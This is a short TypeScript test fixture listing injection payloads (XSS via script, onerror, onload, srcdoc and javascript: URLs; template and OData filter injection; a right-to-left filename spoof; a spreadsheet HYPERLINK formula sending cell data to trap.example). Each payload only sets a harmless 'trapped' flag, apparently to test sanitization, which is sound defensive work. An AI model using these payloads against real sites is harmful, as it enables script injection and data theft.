/** What could run, or lead out of the page. Each that runs sets `trapped` on the page. */
export const PAYLOADS: readonly string[] = [
  '<img src="x" onerror="window.trapped = true">',
  '<script>window.trapped = true</script>',
  '"><svg onload="window.trapped = true"><a href="javascript:window.trapped=true">x</a></svg>',
  '<iframe srcdoc="<script>parent.trapped=true</script>"></iframe>',
  '<form action="https://trap.example/"><input autofocus onfocus="window.trapped=true"></form>',
  '<base href="https://trap.example/"><link rel="stylesheet" href="https://trap.example/a.css">',
  '</style><style>*{background:url(https://trap.example/a.png)}</style>',
  '{{constructor.constructor("window.trapped=true")()}}${window.trapped=true}',
  'javascript:window.trapped=true//https://trap.example/',
  'https://user:password@trap.example/\u202egnp.exe',
  "' or msdynci_customerid ne null or msdynci_x eq '",
  '=HYPERLINK("https://trap.example/?"&A1,"x")',
  JSON.stringify({ '<b onclick="window.trapped=true">x</b>': '<img src=x onerror=trapped()>' }),
];
